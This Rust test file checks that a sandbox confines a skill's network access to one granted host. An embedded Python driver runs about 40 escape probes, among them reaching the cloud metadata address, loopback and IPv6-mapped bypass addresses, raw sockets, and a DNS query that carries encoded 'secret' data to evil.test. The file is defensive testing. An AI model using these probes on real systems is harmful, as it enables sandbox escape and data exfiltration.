//! Attacks on the network of a skill that has some: nothing but the granted host is reached.

use std::collections::BTreeMap;

use chopmark_sandbox::journal::{Event, Stage, Verdict};
use chopmark_sandbox::{RunEnd, start};

use super::egress::endpoint;
use super::world::{World, read_journal, told};
use crate::broker::{Origin, near};

/// Runs each line of a file on its own and tells how it ended.
const DRIVER: &str = r#"
import json, os, socket, struct, sys
PORT, G = int(sys.argv[1]), "198.18.0.1"
IN, IN6, DGRAM, RAW = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_RAW
T, U = lambda family=IN: socket.socket(family), lambda family=IN: socket.socket(family, DGRAM)
def ask(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    asker = U()
    asker.settimeout(20)
    asker.sendto(b"\1\2\1\0\0\1" + bytes(6) + labels + b"\0\0\x10\0\1", ("127.0.0.1", 53))
    code = asker.recv(512)[3] & 15
    if code:
        raise OSError(code + 1000, "no such name")
results = []
for code in json.load(open(sys.argv[2])):
    try:
        exec(code.replace("PORT", str(PORT)))
        results.append(0)
    except OSError as error:
        results.append(error.errno)
json.dump(results, open(sys.argv[3], "w"))
"#;

/// What is tried, the error it ends with (0 for none), and what the journal has of it: an access
/// denied, a refusal of the broker's, or nothing, for the kernel itself refused.
type Case = (&'static str, i32, Option<&'static str>);

const ACCES: i32 = 13;
const PERM: i32 = 1;

const CASES: [Case; 40] = [
    ("T().connect((G, PORT))", 0, None),
    ("T(IN6).connect(('fd63:686f:706d::1', PORT))", 0, None),
    ("T(IN6).connect(('::ffff:198.18.0.1', PORT))", 0, None),
    ("T().connect((G, 22))", ACCES, Some("connect 198.18.0.1:22")),
    (
        "T().connect(('198.18.0.2', PORT))",
        ACCES,
        Some("connect 198.18.0.2:PORT"),
    ),
    (
        "T().connect(('127.0.0.1', 22))",
        ACCES,
        Some("connect 127.0.0.1:22"),
    ),
    (
        "T().connect(('127.0.0.1', PORT))",
        ACCES,
        Some("connect 127.0.0.1:PORT"),
    ),
    (
        "T().connect(('127.0.0.2', 53))",
        ACCES,
        Some("connect 127.0.0.2:53"),
    ),
    (
        "T().connect(('0.0.0.0', PORT))",
        ACCES,
        Some("connect 0.0.0.0:PORT"),
    ),
    (
        "T(IN6).connect(('::', PORT))",
        ACCES,
        Some("connect [::]:PORT"),
    ),
    (
        "T(IN6).connect(('::1', PORT))",
        ACCES,
        Some("connect [::1]:PORT"),
    ),
    (
        "T(IN6).connect(('::ffff:127.0.0.1', PORT))",
        ACCES,
        Some("connect [::ffff:127.0.0.1]:PORT"),
    ),
    (
        "T(IN6).connect(('64:ff9b::c612:1', PORT))",
        ACCES,
        Some("connect [64:ff9b::c612:1]:PORT"),
    ),
    (
        "T().connect(('169.254.169.254', 80))",
        ACCES,
        Some("connect 169.254.169.254:80"),
    ),
    (
        "T().connect(('169.254.169.254', PORT))",
        ACCES,
        Some("connect 169.254.169.254:PORT"),
    ),
    (
        "T().connect(('203.0.113.9', PORT))",
        ACCES,
        Some("connect 203.0.113.9:PORT"),
    ),
    (
        "T().connect(('255.255.255.255', PORT))",
        ACCES,
        Some("connect 255.255.255.255:PORT"),
    ),
    ("U().connect((G, PORT))", 0, None),
    (
        "U().connect(('8.8.8.8', 53))",
        ACCES,
        Some("connect 8.8.8.8:53"),
    ),
    (
        "U().connect(('203.0.113.9', 0))",
        ACCES,
        Some("connect 203.0.113.9:0"),
    ),
    (
        "U().sendto(b'x', ('8.8.8.8', 53))",
        ACCES,
        Some("send 8.8.8.8:53"),
    ),
    (
        "U().sendto(b'x', (G, PORT))",
        ACCES,
        Some("send 198.18.0.1:PORT"),
    ),
    (
        "U().sendto(b'x', (G, 53))",
        ACCES,
        Some("send 198.18.0.1:53"),
    ),
    (
        "U().sendmsg([b'x'], [], 0, ('224.0.0.251', 5353))",
        ACCES,
        Some("send 224.0.0.251:5353"),
    ),
    (
        "T().sendto(b'x', 0x20000000, (G, PORT))",
        ACCES,
        Some("send 198.18.0.1:PORT"),
    ),
    ("ask('api.test')", 0, None),
    (
        "ask('c2VjcmV0.evil.test')",
        1003,
        Some("name-not-granted c2vjcmv0.evil.test"),
    ),
    (
        "ask('c2VjcmV0.api.test')",
        1003,
        Some("name-not-granted c2vjcmv0.api.test"),
    ),
    ("U().bind(('0.0.0.0', 0))", 0, None),
    ("U(IN6).bind(('::', 0))", 0, None),
    (
        "U().bind(('127.0.0.1', 0))",
        ACCES,
        Some("bind 127.0.0.1:0"),
    ),
    (
        "U().bind(('0.0.0.0', 5353))",
        ACCES,
        Some("bind 0.0.0.0:5353"),
    ),
    ("T().bind(('0.0.0.0', 0))", ACCES, Some("bind 0.0.0.0:0")),
    (
        "S = T(); S.setsockopt(1, 15, 1); S.bind(('127.0.0.1', 3128))",
        ACCES,
        Some("bind 127.0.0.1:3128"),
    ),
    ("socket.socket(IN, 1, 262)", PERM, Some("call socket")),
    ("socket.socket(IN, RAW, 1)", PERM, Some("call socket")),
    ("socket.socket(IN, RAW, 6)", PERM, None),
    ("socket.socket(17, RAW, 0)", PERM, Some("call socket")),
    ("socket.socket(40, 1)", PERM, Some("call socket")),
    ("T().setsockopt(0, 19, 1) # IP_TRANSPARENT", PERM, None),
];

#[test]
fn a_granted_host_is_all_that_sockets_reach() {
    let (world, origin) = (World::new(), Origin::start());
    let port = origin.tls.port();
    let codes: Vec<&str> = CASES.iter().map(|(code, ..)| *code).collect();
    world.write("skill/driver.py", DRIVER);
    world.write("skill/cases.json", &serde_json::to_string(&codes).unwrap());
    world.write("skill/roots.pem", &origin.ca_pem);
    let manifest = format!(
        "files:\n  read: [\"skill:.\"]\n  write: [\"workspace:out\"]\nnetwork:\n  \
         - host: api.test\n    port: {port}\n    private: true\nexec: [python3]\n"
    );
    let network = (vec![near("api.test", port)], false);
    let broker = endpoint(network, Vec::new(), world.path("skill/roots.pem"));
    let journal = world.path("journals/run");
    let paths = [
        "skill/driver.py",
        "skill/cases.json",
        "workspace/out/results",
    ];
    let [script, cases, results] = paths.map(|path| world.path(path));
    let [script, cases, results] = [&script, &cases, &results].map(|path| path.to_str().unwrap());
    let words = ["python3", script, &port.to_string(), cases, results];
    let plan = world.plan_with(&manifest, &words, &journal, Some(broker), Vec::new());
    let outcome = start(plan.unwrap()).unwrap().wait().unwrap();
    assert_eq!(outcome.end, RunEnd::Exited(0));
    let mut recorded: BTreeMap<String, usize> = BTreeMap::new();
    for event in read_journal(&journal, true) {
        let text = match &event {
            Event::Access(access) if access.verdict == Verdict::Denied => told(access),
            Event::Network(_, event) if event.stage == Stage::Refused => {
                format!("{} {}", event.rule, event.host)
            }
            Event::Header(_)
            | Event::Access(_)
            | Event::Process(_)
            | Event::Program(_)
            | Event::Network(..)
            | Event::Head(_)
            | Event::End(_) => continue,
        };
        *recorded.entry(text).or_default() += 1;
    }
    let results: Vec<i32> = serde_json::from_str(&world.read("workspace/out/results")).unwrap();
    let mut due: BTreeMap<String, usize> = BTreeMap::new();
    let mut faults = Vec::new();
    for ((code, error, record), found) in CASES.iter().zip(&results) {
        if error != found {
            faults.push(format!("{code}: {found}"));
        }
        if let Some(record) = record {
            *due.entry(record.replace("PORT", &port.to_string()))
                .or_default() += 1;
        }
    }
    assert!(faults.is_empty(), "{faults:#?}");
    assert_eq!(results.len(), CASES.len());
    for (record, count) in due {
        let found = recorded.get(&record).copied().unwrap_or_default();
        assert!(
            found >= count,
            "{record}: {found} of {count}; {recorded:#?}"
        );
    }
    assert!(origin.seen().is_empty());
}
